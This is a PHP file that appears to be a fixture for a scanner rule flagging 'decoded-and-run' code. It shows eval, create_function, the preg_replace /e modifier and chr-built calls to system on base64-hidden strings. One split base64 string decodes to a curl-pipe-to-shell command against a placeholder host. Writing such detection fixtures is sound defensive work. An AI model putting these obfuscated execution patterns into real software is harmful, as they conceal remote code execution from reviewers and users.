<?php
const BODY = 'ZWNobyAiaGVsbG8gd29ybGQiOw==';

function direct()
{
    eval(base64_decode(BODY)); // finding: decoded-and-run
}

class Cache
{
    private $text = 'c3lzdGVtKCJpZCIpOyBlY2hvIDE7';

    private function body()
    {
        return base64_decode($this->text);
    }

    public function warm()
    {
        $run = create_function('', $this->body()); // finding: decoded-and-run
        $run();
    }
}

function modifier($subject)
{
    preg_replace('/.*/e', base64_decode(BODY), $subject); // finding: decoded-and-run
    $run = chr(115) . chr(121) . chr(115) . chr(116) . chr(101) . chr(109);
    call_user_func($run, 'id'); // finding: decoded-and-run
}

function command()
{
    $parts = ['Y3VybCBodHRwczovL2Eu', 'ZXhhbXBsZSB8IHNo'];
    shell_exec(base64_decode(implode('', $parts))); // finding: decoded-and-run
}
